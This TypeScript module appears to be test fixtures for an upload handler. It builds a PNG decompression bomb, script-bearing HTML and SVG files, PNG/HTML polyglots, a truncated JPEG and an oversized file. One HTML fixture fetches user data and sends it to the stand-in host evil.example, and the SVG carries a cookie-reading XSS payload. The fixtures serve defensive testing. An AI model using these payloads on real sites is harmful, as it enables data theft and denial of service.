import zlib from 'node:zlib';
import sharp from 'sharp';
import { pdfDocument, pngImage } from './upload-fixtures.ts';

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a well-formed PNG header claiming `width` × `height` RGB pixels, with
 * only a few compressed rows behind it. A few hundred bytes that would decode to gigabytes.
 */
export function pngBomb(width = 100_000, height = 100_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit, truecolour, deflate, adaptive filter, no interlace
  const rows = zlib.deflateSync(Buffer.alloc((width * 3 + 1) * 4));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const htmlWithScript = () =>
  Buffer.from(
    '<!doctype html><html><head><title>x</title></head><body><script>fetch("/api/users")' +
      '.then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>',
  );

export const svgWithScript = () =>
  Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" ' +
      'onload="alert(document.cookie)"><script>alert(1)</script><rect width="10" height="10"/></svg>',
  );

const POLYGLOT_HTML = '<html><body><script>alert(document.domain)</script></body></html>';

/** A real PNG that is also an HTML page: the markup rides after the image's end. */
export async function pngHtmlPolyglot(): Promise<Buffer> {
  return Buffer.concat([await pngImage(64, 64), Buffer.from(POLYGLOT_HTML)]);
}

/** An HTML page first, with a PNG inside it: what a browser sniffing it would render. */
export async function htmlPngPolyglot(): Promise<Buffer> {
  return Buffer.concat([Buffer.from(`${POLYGLOT_HTML}<!--`), await pngImage(64, 64), Buffer.from('-->')]);
}

/** A photo-like JPEG (noise compresses badly, so the cut lands inside the scan data) cut short. */
export async function truncatedJpeg(): Promise<Buffer> {
  const raw = Buffer.alloc(300 * 200 * 3);
  for (let i = 0; i < raw.length; i++) raw[i] = (i * 7919) % 251;
  const jpeg = await sharp(raw, { raw: { width: 300, height: 200, channels: 3 } })
    .jpeg()
    .toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
}

/** 30 MB: over every upload limit, starting like a PNG so only its size can refuse it. */
export async function thirtyMegabytes(): Promise<Buffer> {
  const png = await pngImage(16, 16);
  return Buffer.concat([png, Buffer.alloc(30 * 1024 * 1024 - png.length, 0x41)]);
}

export { pdfDocument, pngImage };
